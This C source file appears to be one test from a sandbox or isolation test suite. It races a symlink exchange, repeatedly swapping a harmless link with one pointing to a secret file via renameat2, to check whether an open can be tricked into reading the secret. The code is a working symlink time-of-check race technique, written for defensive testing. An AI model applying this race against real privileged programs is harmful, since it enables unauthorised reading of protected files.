// Exchanges a symbolic link under a name while it is opened.

#include "attack.h"

static const char *name, *one, *other;
static atomic_bool stop;

static void *exchanging(void *unused) {
  while (!stop) syscall(SYS_renameat2, AT_FDCWD, one, AT_FDCWD, other, 2 /* RENAME_EXCHANGE */);
  return unused;
}

int main(void) {
  name = WORK("link");
  one = name;
  other = WORK("other");
  if (symlink(plain("mine"), one) || symlink(SECRET, other)) refused("symlink");
  pthread_t thread;
  if (pthread_create(&thread, 0, exchanging, 0)) broken("pthread_create");
  for (int index = 0; index < TRIES; index++) {
    int fd = open(name, O_RDONLY);
    if (fd < 0) continue;
    if (is_secret(fd)) won("the secret was read, after %d tries", index + 1);
    close(fd);
  }
  stop = true;
  blocked("0 of %d opens read the secret", TRIES);
}
